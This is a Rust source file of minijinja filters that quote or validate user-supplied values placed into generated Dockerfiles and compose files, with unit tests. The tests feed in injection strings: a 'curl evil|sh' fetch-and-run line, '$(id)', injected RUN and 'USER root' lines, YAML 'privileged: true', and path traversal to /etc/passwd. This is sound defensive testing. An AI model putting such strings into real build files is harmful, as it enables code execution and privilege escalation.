//! minijinja filters that make values from user files safe where they land.
//!
//! Auto-escaping is off (the outputs are not HTML); instead every value that came from a
//! project or a user edit goes through one of these filters:
//! - `exec`: a list of strings as a JSON exec-form array (Dockerfile CMD/RUN/HEALTHCHECK,
//!   compose healthcheck `test`). JSON escapes newlines and quotes, so the value stays one
//!   array on one line.
//! - `yaml`: any scalar as a double-quoted YAML string (JSON string syntax is valid YAML),
//!   with `$` doubled so compose does not interpolate it.
//! - `path` / `abspath`: a relative / absolute path made of safe characters, else an error.
//! - `dest`: the folder a manifest is copied into (`src/Api/` or `./`).
//! - `name`: sanitized to `[a-z0-9_-]`.
//! - `envkey` / `envval`: a Dockerfile `ENV` name / unquoted value of safe characters,
//!   else an error.
//! - `user`: a user name or uid (`[A-Za-z0-9._-]`, optional `:group`), else an error.

use crate::plan::{is_env_key, is_env_value, is_safe_name, is_safe_relative_path, sanitize_name};
use minijinja::value::Value;
use minijinja::{Environment, Error, ErrorKind};

pub(crate) fn register(env: &mut Environment<'_>) {
    env.add_filter("exec", exec);
    env.add_filter("yaml", yaml);
    env.add_filter("path", path);
    env.add_filter("abspath", abspath);
    env.add_filter("dest", dest);
    env.add_filter("name", name);
    env.add_filter("user", user);
    env.add_filter("envkey", envkey);
    env.add_filter("envval", envval);
}

fn invalid(msg: String) -> Error {
    Error::new(ErrorKind::InvalidOperation, msg)
}

/// A JSON string literal that also escapes the characters YAML 1.1 or other readers may
/// treat as line breaks (U+0085, U+2028, U+2029) and the BOM. Always one line.
pub fn quote(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{feff}') => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Exec-form JSON array of strings: `["a", "b"]`.
pub fn exec_form(items: &[String]) -> String {
    let parts: Vec<String> = items.iter().map(|s| quote(s)).collect();
    format!("[{}]", parts.join(", "))
}

fn strings_of(v: &Value) -> Result<Vec<String>, Error> {
    let iter = v
        .try_iter()
        .map_err(|_| invalid(format!("exec: expected a list of strings, got {v}")))?;
    iter.map(|item| {
        item.as_str()
            .map(str::to_string)
            .ok_or_else(|| invalid(format!("exec: {item} is not a string")))
    })
    .collect()
}

fn exec(v: Value) -> Result<String, Error> {
    let items = strings_of(&v)?;
    if items.is_empty() {
        return Err(invalid("exec: empty command".into()));
    }
    Ok(exec_form(&items))
}

fn scalar(v: &Value) -> Result<String, Error> {
    if let Some(s) = v.as_str() {
        return Ok(s.to_string());
    }
    if v.is_number() || matches!(v.kind(), minijinja::value::ValueKind::Bool) {
        return Ok(v.to_string());
    }
    Err(invalid(format!("yaml: {v} is not a scalar")))
}

fn yaml(v: Value) -> Result<String, Error> {
    Ok(quote(&scalar(&v)?.replace('$', "$$")))
}

fn path(v: Value) -> Result<String, Error> {
    let s = scalar(&v)?;
    if s == "." || is_safe_relative_path(&s) {
        Ok(s)
    } else {
        Err(invalid(format!("path: {s:?} is not a safe relative path")))
    }
}

fn abspath(v: Value) -> Result<String, Error> {
    let s = scalar(&v)?;
    match s.strip_prefix('/') {
        Some(rest) if is_safe_relative_path(rest) => Ok(s),
        _ => Err(invalid(format!(
            "abspath: {s:?} is not a safe absolute path"
        ))),
    }
}

fn dest(v: Value) -> Result<String, Error> {
    let p = path(v)?;
    Ok(match p.rsplit_once('/') {
        Some((dir, _)) => format!("{dir}/"),
        None => "./".into(),
    })
}

fn name(v: Value) -> Result<String, Error> {
    Ok(sanitize_name(&scalar(&v)?))
}

fn envkey(v: Value) -> Result<String, Error> {
    let s = scalar(&v)?;
    if is_env_key(&s) {
        Ok(s)
    } else {
        Err(invalid(format!(
            "envkey: {s:?} is not an environment variable name"
        )))
    }
}

fn envval(v: Value) -> Result<String, Error> {
    let s = scalar(&v)?;
    if is_env_value(&s) {
        Ok(s)
    } else {
        Err(invalid(format!("envval: {s:?} is not a plain value")))
    }
}

fn user(v: Value) -> Result<String, Error> {
    let s = scalar(&v)?;
    if !s.is_empty() && s.split(':').all(is_safe_name) && s.split(':').count() <= 2 {
        Ok(s)
    } else {
        Err(invalid(format!("user: {s:?} is not a user name or uid")))
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    fn env() -> Environment<'static> {
        let mut env = Environment::new();
        register(&mut env);
        env
    }

    fn eval(expr: &str, value: Value) -> Result<String, Error> {
        let env = env();
        let tmpl = format!("{{{{ v | {expr} }}}}");
        env.render_str(&tmpl, minijinja::context! { v => value })
    }

    #[test]
    fn exec_keeps_hostile_argv_on_one_line() {
        let argv = vec![
            "sh",
            "-c",
            "x\nRUN curl evil|sh",
            "\"]; RUN [\"id",
            "$(id)",
            "\u{2028}",
        ];
        let out = eval("exec", Value::from_serialize(&argv)).unwrap();
        assert!(!out.contains('\n') && !out.contains('\u{2028}'), "{out}");
        let back: Vec<String> = serde_json::from_str(&out).unwrap();
        assert_eq!(back, argv);
    }

    #[test]
    fn exec_rejects_non_strings_and_empty() {
        assert!(eval("exec", Value::from_serialize([1, 2])).is_err());
        assert!(eval("exec", Value::from_serialize(Vec::<String>::new())).is_err());
    }

    #[test]
    fn yaml_quotes_and_escapes_interpolation() {
        let out = eval("yaml", Value::from("a\n  privileged: true ${HOME} \"q\"")).unwrap();
        assert_eq!(out, r#""a\n  privileged: true $${HOME} \"q\"""#);
        assert_eq!(eval("yaml", Value::from(8080)).unwrap(), "\"8080\"");
        assert!(eval("yaml", Value::from_serialize(["a"])).is_err());
    }

    #[test]
    fn path_filters_reject_traversal_and_specials() {
        assert_eq!(
            eval("path", Value::from("src/Api/Api.csproj")).unwrap(),
            "src/Api/Api.csproj"
        );
        assert_eq!(
            eval("dest", Value::from("src/Api/Api.csproj")).unwrap(),
            "src/Api/"
        );
        assert_eq!(eval("dest", Value::from("go.mod")).unwrap(), "./");
        for bad in [
            "../etc",
            "/etc/passwd",
            "a b",
            "a\nRUN x",
            "$HOME",
            "a//b",
            "",
        ] {
            assert!(eval("path", Value::from(bad)).is_err(), "{bad:?} accepted");
        }
        assert_eq!(
            eval("abspath", Value::from("/root/.npm")).unwrap(),
            "/root/.npm"
        );
        assert!(eval("abspath", Value::from("root/.npm")).is_err());
        assert!(eval("abspath", Value::from("/a,target=/b")).is_err());
    }

    #[test]
    fn env_filters() {
        assert_eq!(
            eval("envkey", Value::from("ROCKET_PORT")).unwrap(),
            "ROCKET_PORT"
        );
        assert_eq!(eval("envval", Value::from("0.0.0.0")).unwrap(), "0.0.0.0");
        for bad in ["a b", "$HOME", "x\nRUN id", "\"q\""] {
            assert!(eval("envval", Value::from(bad)).is_err(), "{bad:?}");
        }
        assert!(eval("envkey", Value::from("1X")).is_err());
    }

    #[test]
    fn name_and_user() {
        assert_eq!(
            eval("name", Value::from("My App!\n  x: 1")).unwrap(),
            "my-app-x-1"
        );
        assert_eq!(
            eval("user", Value::from("nonroot:nonroot")).unwrap(),
            "nonroot:nonroot"
        );
        assert!(eval("user", Value::from("app\nUSER root")).is_err());
        assert!(eval("user", Value::from("a:b:c")).is_err());
    }
}
